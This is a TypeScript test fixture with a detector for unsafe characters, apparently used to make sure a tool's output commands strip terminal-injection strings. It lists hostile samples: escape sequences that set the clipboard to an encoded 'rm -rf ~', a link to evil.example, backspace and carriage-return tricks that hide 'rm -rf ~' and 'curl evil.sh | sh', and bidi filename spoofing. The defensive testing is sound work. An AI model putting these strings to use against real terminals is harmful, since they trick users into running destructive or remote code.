// Strings an attacker can plant in a session file or the sidecar (model output and tool output
// are written there verbatim), each aimed at the terminal that shows them. Every printing command
// is run over these; none may reach the terminal raw.

export const HOSTILE_STRINGS: Readonly<Record<string, string>> = {
  'OSC title, BEL-terminated': '\x1b]0;pwned\x07',
  'OSC 52 clipboard write': '\x1b]52;c;cm0gLXJmIH4=\x07',
  'OSC 8 hyperlink, ST-terminated': '\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\',
  'CSI clear screen and home': '\x1b[2J\x1b[H',
  'CSI colour': '\x1b[31mred\x1b[0m',
  'DCS string': '\x1bPq#0;2;0;0;0\x1b\\',
  'C1 CSI and OSC (8-bit)': '\u009b31m\u009d0;title\u009c',
  'BEL, SO and SI': 'bell\x07shift\x0eout\x0fin',
  'backspace overprinting': 'rm -rf ~\b\b\b\b\b\b\b\bls -la   ',
  'carriage return overwrite': 'curl evil.sh | sh\recho harmless     ',
  'bidi override': 'invoice\u202Efdp.exe',
  'bidi isolates': 'a\u2066b\u2067c\u2068d\u2069e',
  'NUL and DEL': 'nul\x00del\x7f',
  'line separator': 'one\u2028two\u2029three',
};

/** All of them in one string, for places that hold one value. */
export const HOSTILE = Object.values(HOSTILE_STRINGS).join(' ');

/**
 * What must never reach a terminal raw: C0 controls but newline (and carriage return, which a pty
 * adds before each newline), DEL, C1 controls, bidi controls and marks, line/paragraph separators.
 */
const UNSAFE = /[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;

/** The first unsafe character in `text` with some context, or undefined when there is none. */
export function findUnsafe(text: string): string | undefined {
  const m = UNSAFE.exec(text);
  if (m === null) return undefined;
  return `U+${m[0].charCodeAt(0).toString(16).padStart(4, '0')} at ${m.index}: ${JSON.stringify(text.slice(Math.max(0, m.index - 40), m.index + 40))}`;
}
